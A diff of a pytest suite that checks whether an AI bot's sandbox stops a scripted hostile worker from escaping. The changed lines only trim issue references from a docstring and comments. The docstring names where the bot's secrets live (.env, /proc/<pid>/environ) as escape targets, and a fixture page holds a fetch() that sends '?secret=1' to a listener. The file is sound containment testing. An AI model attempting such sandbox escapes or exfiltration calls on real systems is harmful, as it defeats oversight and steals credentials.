@@ -1,4 +1,4 @@
-"""A hostile worker, played by the scripted model through the real bot, tries each escape of issue 11; each fails.
+"""A hostile worker, played by the scripted model through the real bot, tries each escape the sandbox must stop; each fails.
 
 The "bot's secrets" live where a real bot keeps them: in a `.env` in its working folder, in the environment of a
 process outside the sandbox (a stand-in for the bot's own, whose /proc/<pid>/environ holds its keys), and in its
@@ -309,7 +309,7 @@ async def test_network_on_request(asking_bot: BotHarness, listener: Listener, an
     task = await task_end(bot, 1)
     results = tool_results(model)
     events = [e.detail for e in await bot.runtime.store.task_events(task.id) if e.kind == "network"]
-    own_loopback = shutil.which("pasta") is not None  # an allowed command never reaches the host's 127.0.0.1 (issue 22)
+    own_loopback = shutil.which("pasta") is not None  # an allowed command never reaches the host's 127.0.0.1
     if answer in ("once", "task"):
         assert "was not run" not in results[0]
         assert ("CONNECTED" not in results[0]) if own_loopback else ("CONNECTED" in results[0])
@@ -430,7 +430,7 @@ async def test_a_worker_cannot_choose_what_the_next_sandbox_binds(bot: BotHarnes
 @pytest.mark.skipif(not shutil.which("chromium"), reason="chromium is not installed (apt-get install chromium)")
 async def test_a_screenshot_page_cannot_call_home(bot: BotHarness, model: RoleScript, listener: Listener) -> None:
     """The frontend worker's Chromium runs in the task's sandbox: a page's script reaches no network, and a URL on
-    127.0.0.1 is the task's own loopback (issue 24: its services), never the host's."""
+    127.0.0.1 is the task's own loopback (its services), never the host's."""
     page = (
         f"<h1>Portfolio</h1><img src='http://127.0.0.1:{listener.port}/img.png'>"
         f"<script>fetch('http://127.0.0.1:{listener.port}/?secret=1').catch(() => {{}})</script>"
